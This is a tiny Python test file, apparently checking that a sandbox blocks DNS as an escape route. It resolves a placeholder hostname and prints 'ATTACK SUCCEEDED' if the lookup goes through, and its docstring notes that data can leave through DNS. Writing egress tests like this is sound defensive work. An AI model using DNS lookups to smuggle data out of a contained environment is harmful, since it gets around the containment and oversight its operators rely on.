# ruff: noqa
# ends: blocked
# alone: yes
"""Look up a name (data leaves through DNS too)."""

import socket

print("ATTACK SUCCEEDED:", socket.getaddrinfo("localhost.codepercept.example", 80))
